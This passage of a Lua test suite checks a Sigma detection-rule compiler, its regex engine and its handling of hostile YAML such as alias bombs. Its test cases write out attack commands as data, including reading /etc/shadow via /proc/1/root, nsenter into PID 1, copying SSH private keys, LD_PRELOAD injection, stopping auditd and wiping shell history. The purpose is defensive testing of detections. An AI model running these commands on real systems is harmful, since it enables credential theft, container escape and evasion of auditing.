			{ "/usr/bin/systemctl", "systemctl stop auditd", false },
			{ "/usr/bin/systemctl", "systemctl start mysql", false } },
		{ "Cond_or", { "/usr/bin/touch", "touch -r /bin/ls /work/x", true },
			{ "/usr/bin/touch", "touch -d 2021-03-14 /tmp/.x", true }, { "/usr/bin/touch", "touch /tmp/.x", false },
			{ "/usr/bin/touch", "touch -d 2021-03-14 /tmp/x", false }, { "/usr/bin/cp", "cp -r /bin/x /y", false } },
		{ "Cond_parentheses", { "/usr/bin/cat", "cat /proc/1/root/etc/shadow", true },
			{ "/usr/bin/nsenter", "nsenter --target 1 --mount", true }, { "/usr/bin/ls", "ls /proc/1/root/", false },
			{ "/usr/bin/cat", "cat /etc/shadow", false }, { "/usr/bin/x", "x --target 1 y", false } },
		{ "Cond_precedence", { "/usr/bin/chmod", "chmod 777 /tmp/x", true },
			{ "/usr/bin/chmod", "chmod 777 /work/x", false }, { "/usr/bin/chattr", "chattr +i /work/x", true },
			{ "/usr/bin/chmod", "chmod 644 /tmp/x", false }, { "/usr/bin/chattr", "chattr -i /tmp/x", false } },
		{ "Cond_one_of_pattern", { "/usr/bin/cp", "cp /work/.ssh/id_rsa /tmp/.k/", true },
			{ "/usr/bin/grep", "grep -l PRIVATE KEY /tmp/x", true },
			{ "/usr/bin/cp", "cp /work/.ssh/id_rsa.pub /tmp/", false }, { "/usr/bin/cat", "cat /work/.ssh/id_rsa", false } },
		{ "Cond_all_of_pattern", { "/usr/bin/env", "env LD_PRELOAD=/tmp/x.so ls", true },
			{ "/usr/bin/env", "env FOO=1 ls", false }, { "/bin/sh", "sh -c LD_PRELOAD=/tmp/x.so", false } },
		{ "Cond_one_of_them", { "/usr/bin/import", "import -window root /tmp/s.png", true },
			{ "/usr/bin/scrot", "scrot /tmp/x.png", true }, { "/usr/bin/import", "import photo.jpg", false },
			{ "/usr/bin/convert", "convert -window root x", false } },
		{ "Cond_all_of_them", { "/usr/bin/truncate", "truncate -s 0 /root/.bash_history", true },
			{ "/usr/bin/truncate", "truncate -s 0 /tmp/log", false }, { "/usr/bin/rm", "rm -f /work/.zsh_history", false } },
		{ "Cond_list", { "/usr/bin/sed", "sed -i /a/d /etc/hosts", true }, { "/usr/bin/tee", "tee -a /etc/hosts", true },
			{ "/usr/bin/sed", "sed /a/d /etc/hosts", false }, { "/usr/bin/cat", "cat /etc/hosts", false } },
		{ "Cond_list_of_maps", { "/usr/bin/cat", "cat /.dockerenv", true },
			{ "/usr/bin/systemd-detect-virt", "systemd-detect-virt", true }, { "/usr/bin/cat", "cat /etc/hostname", false } },
	}
	for _, c in ipairs(CASES) do
		it(c[1]:gsub("_", " "), function()
			for i = 2, #c do
				local image, cmd, want = c[i][1], c[i][2], c[i][3]
				assert.are.equal(want, fire(c[1], cmd_run(cmd, image)) ~= nil, cmd)
			end
		end)
	end

	it("evaluates a condition on each event alone", function()
		local run = { events = { exec(2, 1, "/usr/bin/systemctl", { "systemctl", "stop", "mysql" }),
			exec(3, 1, "/usr/bin/systemctl", { "systemctl", "stop", "auditd" }) } }
		assert.truthy(fire("Cond_and_not", run))
		run = { events = { exec(2, 1, "/usr/bin/env", { "env", "FOO=1", "ls" }),
			exec(3, 1, "/bin/sh", { "sh", "-c", "LD_PRELOAD=/tmp/x.so ls" }) } }
		assert.is_nil(fire("Cond_all_of_pattern", run))
	end)
end)

describe("sbx.sigma unsupported rules", function()
	local SOURCES = "categories process_creation, file_event, network_connection, service auditd, or keywords with "
		.. "no category"
	local WHY = {
		["Bad unknown field"] = "unknown field 'Hashes' for category process_creation",
		["Bad field of another category"] = "unknown field 'CommandLine' for category file_event",
		["Bad category"] = "unsupported logsource: category 'dns_query' (only " .. SOURCES .. ")",
		["Bad product"] = "unsupported logsource: product 'windows' (only linux)",
		["Bad service"] = "unsupported logsource: service 'sshd' (sshd's log of logins: the box runs no such "
			.. "service) (only " .. SOURCES .. ")",
		["Bad no product"] = "unsupported logsource: no product (only linux)",
		["Bad keywords"] = "keyword selection 'keywords' (values without a field) is not supported in category "
			.. "process_creation",
		["Bad keywords all"] = "keyword selection 'keywords' (values without a field) is not supported in category "
			.. "process_creation",
		["Bad auditd record type"] = "auditd record type USER_TTY, TTY: the box makes no such record (only SYSCALL, "
			.. "EXECVE, PATH, CWD, PROCTITLE, SOCKADDR)",
		["Bad auditd key"] = "key 'net_probe': no audit rule of the rule's definition sets it (only -w and -S rules)",
		["Bad auditd field"] = "unknown field 'unit' for service auditd",
		["Bad keywords field"] = "unknown field 'CommandLine' for category keywords",
		["Bad service with a category"] = "unsupported logsource: service 'auditd' (only " .. SOURCES .. ")",
		["Bad aggregation"] = "aggregation in the condition ('| count() by ParentImage > 5') is not supported",
		["Bad near"] = "'near' in the condition is not supported",
		["Bad timeframe"] = "timeframe (an aggregation) is not supported",
		["Bad unknown modifier"] = "unknown modifier 'containz'",
		["Bad unsupported modifier"] = "unsupported modifier 'utf16le'",
		["Bad modifier combination"] = "modifier 're' cannot be combined with the others of 'CommandLine|contains|re'",
		["Bad regex"] = "regex '(curl|wget': missing )",
		["Bad regex backreference"] = "regex '(a)\\1': backreferences are not supported",
		["Bad regex lookahead"] = "regex 'curl(?! -s)': unsupported group '(?!'",
		["Bad condition selection"] = "bad condition 'selection and filter': no selection 'filter'",
		["Bad condition pattern"] = "bad condition '1 of filter_*': 'filter_*' names no selection",
		["Bad condition syntax"] = "bad condition '(selection and': it ends too soon",
		["Bad condition one of"] = "bad condition '1 of': '1 of' what?",
		["Bad base64 wildcard"] = "modifier 'base64' on a value with wildcards ('*whoami*')",
		["Bad cidr"] = "bad CIDR '10.0.0.0/33'",
		["Bad level"] = "unknown level 'severe'",
		["(none)"] = "a rule needs a title",
		["Bad empty selection"] = "selection 'selection' is empty",
		["Bad no condition"] = "the detection has no condition",
		["Bad correlation"] = "correlation rules are not supported",
		["Bad status"] = "the rule's status is 'unsupported'",
		["Bad value map"] = "the value of field Image must be a scalar or a list of scalars",
		-- lua-yaml ends a string at a NUL: a contains of "" would match all
		["Bad NUL value"] = "an empty value with modifiers would match every event (field CommandLine)",
		["Bad log file definition"] = "unsupported logsource: its definition reads /var/log/secure (the "
			.. "authentication log: the box runs no such service)",
	}

	it("skips each with its reason, its source, title and id", function()
		local rules, skipped = compile_file("unsupported")
		assert.are.same({}, rules)
		local got = {}
		for _, s in ipairs(skipped) do
			assert.are.equal("tests/sigma/unsupported.yml", s.source)
			got[s.title or "(none)"] = s.why
		end
		assert.are.same(WHY, got)
		assert.are.equal(37, #skipped)
		assert.are.equal("2b9f3c71-6e0a-4d8b-9a5c-1f7e3d2c8b40", skipped[28].id)
	end)

	it("skips a second rule of the same name in a file", function()
		local function rule(title, image)
			return ("title: %s\nid: 9a8b7c6d-0000-4000-8000-000000000001\n"
				.. "logsource: {product: linux, category: process_creation}\n"
				.. "detection: {selection: {Image|endswith: %s}, condition: selection}\n"):format(title, image)
		end
		local rules, skipped = sigma.compile(rule("Duplicate id one", "/sh") .. "---\n"
			.. rule("Duplicate id two", "/bash"), "dup.yml")
		assert.are.same({ "sigma.9a8b7c6d-0000-4000-8000-000000000001" }, { rules[1].name, rules[2] })
		assert.are.same({ { source = "dup.yml", title = "Duplicate id two", id = "9a8b7c6d-0000-4000-8000-000000000001",
			why = "a second rule named sigma.9a8b7c6d-0000-4000-8000-000000000001 in the file" } }, skipped)
	end)

	it("skips a malformed file as one entry", function()
		local rules, skipped = compile_file("malformed")
		assert.are.same({}, rules)
		assert.are.same({ { source = "tests/sigma/malformed.yml",
			why = "malformed YAML: 3:1: found unexpected end of stream" } }, skipped)
	end)

	it("refuses modifiers that do not go together or do not fit their value", function()
		local function why(sel)
			local _, sk = sigma.compile("title: T\nlogsource: {product: linux, category: process_creation}\n"
				.. "detection:\n  s:\n    " .. sel .. "\n  condition: s\n")
			return sk[1] and sk[1].why
		end
		assert.are.equal("unknown modifier 'i'", why("CommandLine|contains|i: x"))
		assert.are.equal("modifier 'contains' cannot be combined with the others of 'CommandLine|re|contains'",
			why("CommandLine|re|contains: x"))
		assert.are.equal("an empty modifier in 'Image|'", why("'Image|': x"))
		assert.are.equal("exists takes true or false (field Image)", why("Image|exists: maybe"))
		assert.are.equal("modifier 'lt' needs a number, not 'x'", why("ProcessId|lt: x"))
		assert.are.equal("a null value with modifiers (field Image)", why("Image|contains: null"))
		assert.are.equal("an empty list of values for field Image", why("Image: []"))
		assert.are.equal("modifier 'windash' cannot be combined with the others of 'Image|cidr|windash'",
			why("Image|cidr|windash: x"))
		assert.are.equal("bad condition 's and or s': unexpected 'or'",
			select(2, sigma.compile("title: T\nlogsource: {product: linux, category: process_creation}\n"
				.. "detection: {s: {Image: x}, condition: s and or s}\n"))[1].why)
	end)
end)

describe("sbx.sigma regular expressions", function()
	local function m(re, flags) return assert(sigma.regex(re, flags)) end

	it("matches the subset of PCRE the specification names", function()
		local yes = { { "^a.c$", "abc" }, { "^a.c$", "a\u{e9}c" }, { "foo|bar", "xbarx" }, { "^(ab)+$", "ababab" },
			{ "\\d{3}-\\d{2,}", "x123-456" }, { "^[a-c_]+z", "c_az" }, { "[^0-9]", "1a" }, { "\\bcat\\b", "a cat!" },
			{ "a{2,3}$", "caaa" }, { "x$", "x\n" }, { "^(?:ht|f)tps?://", "https://x" }, { "\\s\\S\\W", "a b!" },
			{ "(?i)HELLO", "say hello" }, { "\\x41\\.\\*", "A.*" }, { "^$", "" }, { "a?", "" } }
		for _, c in ipairs(yes) do assert.is_true(m(c[1])(c[2]), c[1] .. " " .. c[2]) end
		local no = { { "^(ab)+$", "ababa" }, { "\\bcat\\b", "concat" }, { "^b", "a\nb" }, { "a.b", "a\nb" },
			{ "[^0-9]", "123" }, { "HELLO", "hello" }, { "^a{2}$", "aaa" }, { "x$", "x\n\n" } }
		for _, c in ipairs(no) do assert.is_false(m(c[1])(c[2]), c[1] .. " " .. c[2]) end
	end)

	it("takes the flags i, m and s", function()
		assert.is_true(m("hello", "i")("HeLLo"))
		assert.is_true(m("^b$", "m")("a\nb\nc"))
		assert.is_true(m("a.b", "s")("a\nb"))
	end)

	it("refuses what it cannot translate, with the reason", function()
		for re, why in pairs {
			["(?<=a)b"] = "regex '(?<=a)b': unsupported group '(?<'",
			["a++"] = "regex 'a++': possessive quantifiers are not supported",
			["\\p{L}"] = "regex '\\p{L}': unsupported escape \\p",
			["[[:alpha:]]"] = "regex '[[:alpha:]]': POSIX classes ([:name:]) are not supported",
			["*a"] = "regex '*a': nothing to repeat",
			["a)"] = "regex 'a)': unbalanced )",
			["[a-"] = "regex '[a-': missing ]",
			["a{5,2}"] = "regex 'a{5,2}': bad {n,m} count",
			["(a{1000}){1000}"] = "regex '(a{1000}){1000}': too complex",
			["a{1001}"] = "regex 'a{1001}': bad {n,m} count",
			["x(?i)y"] = "regex 'x(?i)y': unsupported group '(?i'",
		} do
			assert.are.same({ nil, why }, { sigma.regex(re) }, re)
		end
		assert.has_error(function() sigma.regex(1) end, "bad argument #1 to 'regex' (string expected, got number)")
	end)

	it("takes time linear in the text, whatever the expression", function()
		local a = ("a"):rep(20000)
		assert.is_false(m("^(a|aa)*b$")(a))
		assert.is_false(m("(a*)*b")(a))
		assert.is_false(m("(x+x+)+y")(("x"):rep(5000)))
	end)
end)

-- The differential test's cases: regular expressions drawn from a small
-- grammar (atoms, assertions, groups, alternations, quantifiers) and
-- subjects over the same alphabet, Latin-1, Latin Extended-A and Cyrillic
-- letters in both cases among them, from a fixed seed.
local GEN_ATOMS = { "a", "b", "c", "A", "1", "_", " ", ".", "[ab]", "[^a]", "[a-c]", "[^b-c1]", "\\d", "\\w",
	"\\s", "\\D", "\\W", "\\S", "\\.", "-", "\\x41", "[\\d_]", "[\\w-]", "\\n", "\\t", "\u{e9}", "\\x{c9}",
	"\\xe9", "[.]", "{,2}", "x{", "}", "\u{430}", "\u{416}", "\u{141}", "\u{ff}", "(?=b)", "\\1", "[[:alpha:]]",
	"\\p{L}", "\u{3b1}" }
local GEN_QUANTS = { "*", "+", "?", "{2}", "{1,3}", "{0,}", "{2,2}", "*?", "+?", "??", "{1,2}?", "++" }
local GEN_CHARS = { "a", "b", "c", "A", "B", "1", "2", "_", " ", "\n", "\t", "-", ".", "x", "\u{e9}", "\u{c9}",
	"{", "}", "\u{430}", "\u{410}", "\u{436}", "\u{416}", "\u{141}", "\u{142}", "\u{ff}", "\u{178}", "\u{3b1}" }

local function gen_regex(r, depth)
	local out = {}
	for i = 1, r(4) do
		local k, item = r(10), nil -- luacheck: ignore 311
		if k <= 5 or depth > 2 then item = GEN_ATOMS[r(#GEN_ATOMS)]
		elseif k == 6 then item = ({ "^", "$", "\\b", "\\B" })[r(4)]
		elseif k <= 8 then item = "(" .. gen_regex(r, depth + 1) .. ")"
		elseif k == 9 then item = "(?:" .. gen_regex(r, depth + 1) .. "|" .. gen_regex(r, depth + 1) .. ")"
		else item = gen_regex(r, depth + 1) .. "|" .. GEN_ATOMS[r(#GEN_ATOMS)] end
		if r(3) == 1 and not item:find("[|^$]") and not item:find("\\[bB]$") then
			item = item .. GEN_QUANTS[r(#GEN_QUANTS)]
		end
		out[i] = item
	end
	return table.concat(out)
end

local function gen_subject(r, chars)
	local out = {}
	for i = 1, r(0, 8) do out[i] = chars[r(#chars)] end
	return table.concat(out)
end

-- every `|re` of the rule files under tests/sigma: { regex, flags }
local function own_regexes()
	local out = {}
	local function walk(t)
		for k, v in pairs(t) do
			if type(k) == "string" and k:find("|re", 1, true) then
				local flags = {}
				for f in k:gmatch("|(%a+)") do flags[#flags + 1] = ({ i = "i", m = "m", s = "s" })[f] end
				for _, x in ipairs(type(v) == "table" and v or { v }) do
					if type(x) == "string" then out[#out + 1] = { x, table.concat(flags) } end
				end
			elseif type(v) == "table" then
				walk(v)
			end
		end
	end
	for f in S.sh("ls tests/sigma/*.yml"):gmatch("[^\n]+") do
		walk(require("sbx._sigma_yaml").documents(S.read(f), sigma) or {})
	end
	return out
end

-- PCRE2's answers (tests/progs/pcre2match.c) and sbxlua's on cases
-- { regex, flags, subject }: the lines of those they differ on, and how
-- many matched and were refused
local function differ(cases)
	local function hex(s) return s == "" and "-" or (s:gsub(".", function(c) return ("%02x"):format(c:byte()) end)) end
	local input = os.tmpname()
	local f = assert(io.open(input, "w"))
	for _, c in ipairs(cases) do f:write(c[2] == "" and "-" or c[2], " ", hex(c[1]), " ", hex(c[3]), "\n") end
	f:close()
	local answers = S.sh("build/tests/pcre2match <" .. input)
	os.remove(input)
	local diffs, matched, refused, i = {}, 0, {}, 0
	for want in answers:gmatch("([^\n]*)\n") do
		i = i + 1
		local c = cases[i]
		local m, why = sigma.regex(c[1], c[2])
		if not m then
			assert.truthy(why:find("^regex '"), why)
			refused[c[1]] = why
		elseif want:sub(1, 1) == "E" then
			diffs[#diffs + 1] = ("%q: sbxlua compiles it, PCRE2 says %s"):format(c[1], want)
		else
			local got = m(c[3]) and "1" or "0"
			matched = matched + (got == "1" and 1 or 0)
			if got ~= want then diffs[#diffs + 1] = ("%q /%s on %q: PCRE2 %s, sbxlua %s"):format(c[1], c[2], c[3], want, got) end
		end
	end
	assert.are.equal(#cases, i, "pcre2match answered " .. i .. " of " .. #cases)
	return diffs, matched, refused
end

describe("sbx.sigma regular expressions against PCRE2", function()
	local have = io.open("build/tests/pcre2match") ~= nil
	local function test(name, f)
		if have then it(name, f) else pending("build/tests/pcre2match is not built (libpcre2-dev): " .. name) end
	end

	test("agree on every regex of the rule files under tests/sigma", function()
		local cases = {}
		math.randomseed(38)
		for _, re in ipairs(own_regexes()) do
			-- subjects from the expression's own characters, and the alphabet
			local chars = {}
			for c in re[1]:gsub("\\[dswbDSWB]", ""):gmatch(".") do chars[#chars + 1] = c end
			for _, c in ipairs(GEN_CHARS) do chars[#chars + 1] = c end
			for _ = 1, 400 do cases[#cases + 1] = { re[1], re[2], gen_subject(function(a, b)
				return b and math.random(a, b * 5) or math.random(a)
			end, chars) } end
			cases[#cases + 1] = { re[1], re[2], "" }
		end
		assert.truthy(#cases > 4000)
		local diffs, matched, refused = differ(cases)
		assert.are.equal("", table.concat(diffs, "\n"))
		assert.truthy(matched > 50, matched)
		-- those unsupported.yml holds to be refused, and only them
		assert.are.same({ ["(a)\\1"] = "regex '(a)\\1': backreferences are not supported",
			["curl(?! -s)"] = "regex 'curl(?! -s)': unsupported group '(?!'",
			["(curl|wget"] = "regex '(curl|wget': missing )" }, refused)
	end)

	test("agree on 2000 generated regexes, 12 subjects each (seed 38)", function()
		math.randomseed(38)
		local r, cases = math.random, {}
		local flags = { "", "i", "m", "s", "ims" }
		for _ = 1, 2000 do
			local re, fl = gen_regex(r, 0), flags[r(#flags)]
			for _ = 1, 12 do cases[#cases + 1] = { re, fl, gen_subject(r, GEN_CHARS) } end
		end
		local diffs, matched, refused = differ(cases)
		assert.are.equal("", table.concat(diffs, "\n"))
		-- both answers occur, and what sbxlua refuses it names
		assert.truthy(matched > 2000 and matched < #cases - 2000, matched)
		local kinds = {}
		for _, why in pairs(refused) do kinds[why:match("^regex '.*': (.-)[ \\]") or why] = true end
		assert.truthy(next(kinds))
	end)
end)

describe("sbx.sigma hostile input", function()
	local function why(text)
		local rules, skipped = sigma.compile(text, "h.yml")
		assert.are.same({}, rules)
		assert.are.equal(1, #skipped)
		assert.are.equal("h.yml", skipped[1].source)
		return skipped[1].why
	end
	local HEAD = "title: T\nlogsource: {product: linux, category: process_creation}\n"

	it("skips an empty text, binary garbage and a document that is not a map", function()
		assert.are.equal("no YAML document", why(""))
		assert.are.equal("no YAML document", why("# only a comment\n"))
		assert.are.equal("malformed YAML: 0:0: control characters are not allowed", why("\0\1\2\255::[["))
		local bytes = {}
		for i = 0, 4095 do bytes[#bytes + 1] = string.char((i * 7919) % 256) end
		assert.truthy(why(table.concat(bytes)):find("^malformed YAML: "))
		assert.are.equal("a rule must be a YAML map", why("42"))
		assert.are.equal("a rule must be a YAML map", why("- a\n- b\n"))
		assert.are.equal("an empty YAML document", why("---\n...\n"))
	end)

	it("skips a document nested too deep, an alias bomb and an alias of itself", function()
		assert.are.equal("nested deeper than 64 levels", why(("["):rep(100000) .. ("]"):rep(100000)))
		assert.are.equal("nested deeper than 64 levels", why(("{a: "):rep(50000) .. "1" .. ("}"):rep(50000)))
		local lines, prev = { 'a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]' }, "a0"
		for i = 1, 9 do
			local n = "a" .. i
			lines[#lines + 1] = ("%s: &%s [%s]"):format(n, n, ("*" .. prev .. ","):rep(9):sub(1, -2))
			prev = n
		end
		assert.are.equal("more than 250000 YAML nodes (aliases expanded)", why(table.concat(lines, "\n")))
		assert.are.equal("alias *x refers to itself", why("a: &x [*x]"))
		assert.are.equal("alias *d refers to itself",
			why(HEAD .. "detection: &d {s: {Image: x}, condition: s, more: *d}\n"))
	end)

	it("compiles a 1 MB rule, and skips a text over 2 MiB", function()
		local lines = { HEAD .. "detection:\n  s:\n    CommandLine|contains:" }
		for i = 1, 60000 do lines[#lines + 1] = "      - value" .. i end
		lines[#lines + 1] = "  condition: s\n"
		local text = table.concat(lines, "\n")
		assert.truthy(#text > 1000000)
		local rules, skipped = sigma.compile(text, "big.yml")
		assert.are.same({ 1, {} }, { #rules, skipped })
		assert.truthy(rules[1].fn(cmd_run("x value59999")))
		assert.is_nil(rules[1].fn(cmd_run("x other")))
		assert.are.equal("text over 2097152 bytes", why(("#"):rep(3 << 20)))
		assert.are.equal("a rule needs a logsource (a map)", why("title: " .. ("x"):rep(1 << 20)))
	end)

	it("bounds the regular expressions of a file and their work on a run", function()
		local docs = {}
		for i = 1, 110 do
			docs[i] = ("title: R%d\nlogsource: {product: linux, category: process_creation}\n"
				.. "detection: {s: {CommandLine|re: '(?:a{99}){5}'}, condition: s}\n"):format(i)
		end
		local rules, skipped = sigma.compile(table.concat(docs, "---\n"), "re.yml")
		assert.are.same({ 100, 10 }, { #rules, #skipped })
		assert.are.same({ source = "re.yml", title = "R101", why = "regex '(?:a{99}){5}': the file's regular "
			.. "expressions take over 50000 instructions" }, skipped[1])
		assert.truthy(rules[1].fn(cmd_run("x " .. ("a"):rep(495))))
		assert.is_nil(rules[1].fn(cmd_run("x " .. ("a"):rep(494))))
		assert.are.equal("regex '" .. ("x"):rep(77) .. "...': longer than 4096 characters",
			why(HEAD .. "detection: {s: {CommandLine|re: '" .. ("x"):rep(5000) .. "'}, condition: s}\n"))
		-- about 130,000 steps an event: 50 events take more than the 5,000,000 a rule may
		local slow = sigma.compile(HEAD .. "detection: {s: {CommandLine|re: 'a{1,999}b'}, condition: s}\n")[1]
		local run = { events = {} }
		for i = 1, 50 do run.events[i] = exec(i + 1, 1, "/usr/bin/x", { ("a"):rep(510) }) end
		local v = verdict.judge(run, { slow })
		assert.are.same({ { rule = "sigma.T", error = "sigma: regular expressions took over 5000000 steps" } }, v.errors)
	end)

	it("skips a bad condition, a huge one and one nested too deep", function()
		local function cond(c) return why(HEAD .. "detection:\n  s: {Image: x}\n  condition: '" .. c .. "'\n") end
		assert.are.equal("bad condition '1 of': '1 of' what?", cond("1 of"))
		assert.are.equal("bad condition '': it ends too soon", cond(""))
		assert.are.equal("bad condition 's s': unexpected 's'", cond("s s"))
		assert.are.equal("bad condition 's, s': unexpected ','", cond("s, s"))
		assert.are.equal("a condition longer than 4096 characters", cond(("s or "):rep(1000) .. "s"))
		assert.truthy(cond(("not "):rep(500) .. "s"):find("nested too deep$"))
		assert.truthy(cond(("("):rep(500) .. "s" .. (")"):rep(500)):find("nested too deep$"))
		assert.are.equal("the detection has no condition", why(HEAD .. "detection: {s: {Image: x}, condition: []}\n"))
		assert.are.equal("a condition must be text or a list of texts",
			why(HEAD .. "detection: {s: {Image: x}, condition: {a: b}}\n"))
	end)

	it("skips odd keys and values without raising", function()
		assert.are.equal("a rule needs a title", why("? [a]\n: b\n"))
		assert.are.equal("a key that is not text (table)", why(HEAD .. "detection: {s: {[a]: x}, condition: s}\n"))
		assert.are.equal("a rule needs a detection (a map)", why(HEAD .. "detection: 5\n"))
		assert.are.equal("tags must be a list",
			why(HEAD .. "detection: {s: {Image: x}, condition: s}\ntags: attack.t1059\n"))
		local rules = sigma.compile(HEAD .. "detection: {s: {ProcessId: !!int 2, Image: !!str 5}, condition: s}\n")
		assert.are.equal(1, #rules)
	end)
end)


describe("sbx.sigma on a real box", function()
	S.leak_check(before_each, after_each, assert)

	it("fires a process_creation and a file_event rule on run.lua --explore's facts", function()
		local _, err, code, res = S.json_run("--explore", "sh", "-c", "crontab /tmp/x; echo x >> $HOME/.bashrc")
		assert.truthy(res, err)
		assert.are.equal(0, code, err)
		local F = facts.of(res)
		local rules = by_name((compile_file("process_creation")))
		for _, r in ipairs((compile_file("file_event"))) do rules[r.name] = r end
		-- crontab is not installed: the shell's command line is the event
		local f = rules["sigma.5b0e7d1c-3f6a-4c52-9d8e-2a7f41c9b0e1"].fn(res, F)
		assert.truthy(f, err)
		assert.truthy(f.reason:find('CommandLine="sh -c crontab /tmp/x; echo x >> $HOME/.bashrc"', 1, true), f.reason)
		f = rules["sigma.Shell_profile_changed_by_a_shell"].fn(res, F)
		assert.truthy(f, err)
		assert.are.equal(1, f.count)
		assert.truthy(f.reason:find("^sigma Shell profile changed by a shell: TargetFilename=/home/dana/%.bashrc Image=/%S*dash$"),
			f.reason)
	end)
end)

describe("sbx.sigma rules on their targets and the benign corpus [" .. S.priv .. "]", function()
	S.leak_check(before_each, after_each, assert)

	-- the rules and their targets, read when the file is loaded so that
	-- each rule is a test of its own
	local names, targets, seen = {}, {}, {}
	for name, r in pairs(RULES) do
		names[#names + 1] = name
		local t = target_of(r)
		if t and not seen[t] then targets[#targets + 1], seen[t] = t, true end
	end
	table.sort(names)
	table.sort(targets)

	-- one batch (the analysis box) over the targets and tests/benign
	local recs, benign, err = {}, 0, ""
	setup(function()
		local errfile, quoted = os.tmpname(), {}
		for i, t in ipairs(targets) do quoted[i] = S.q(t) end
		local out = S.sh(S.bin .. " batch.lua -j 2 --progress never --no-default-rules --rules tests/sigma "
			.. table.concat(quoted, " ") .. " tests/benign 2>" .. errfile .. " </dev/null")
		err = S.read(errfile) or ""
		os.remove(errfile)
		for l in out:gmatch("([^\n]*)\n") do
			local r = cjson.decode(l)
			recs[r.program] = r
			if r.program:find("^tests/benign/") then benign = benign + 1 end
		end
	end)

	local function rules_of(r)
		local t = {}
		for _, f in ipairs(r.reasons or {}) do t[#t + 1] = f.rule end
		return t
	end

	for _, name in ipairs(names) do
		local target = target_of(RULES[name])
		it(name .. " fires on " .. tostring(target), function()
			local r = recs[target]
			assert.is_table(r, "no record for " .. tostring(target) .. ": " .. err:sub(-400))
			local fired = {}
			for _, n in ipairs(rules_of(r)) do fired[n] = true end
			assert.truthy(fired[name], "findings: " .. table.concat(rules_of(r), ", "))
		end)
	end

	it("no sigma rule fires on a program of tests/benign", function()
		assert.is_true(benign >= 110, "only " .. benign .. " benign records: " .. err:sub(-400))
		local offenders = {}
		for program, r in pairs(recs) do
			if program:find("^tests/benign/") then
				for _, f in ipairs(r.reasons or {}) do
					if tostring(f.rule):find("^sigma%.") then
						offenders[#offenders + 1] = ("%s: %s: %s"):format(program, f.rule, tostring(f.reason))
					end
				end
			end
		end
		table.sort(offenders)
		assert.are.equal("", table.concat(offenders, "\n"))
	end)

	it("lists each unsupported rule once on stderr", function()
		local want, count = {}, {}
		for _, f in ipairs { "malformed", "unsupported" } do
			local _, skipped = compile_file(f)
			for _, s in ipairs(skipped) do
				want[#want + 1] = report.escape(("batch: sigma rule not supported: %s: %s: %s"):format(
					s.source, s.title or s.id or "?", s.why))
			end
		end
		local lines = 0
		for l in err:gmatch("([^\n]*)\n") do
			if l:find("^batch: sigma rule not supported: ") then
				count[l], lines = (count[l] or 0) + 1, lines + 1
			end
		end
		for _, w in ipairs(want) do assert.are.equal(1, count[w], w) end
		assert.are.equal(#want, lines, err:sub(1, 4000))
	end)
end)
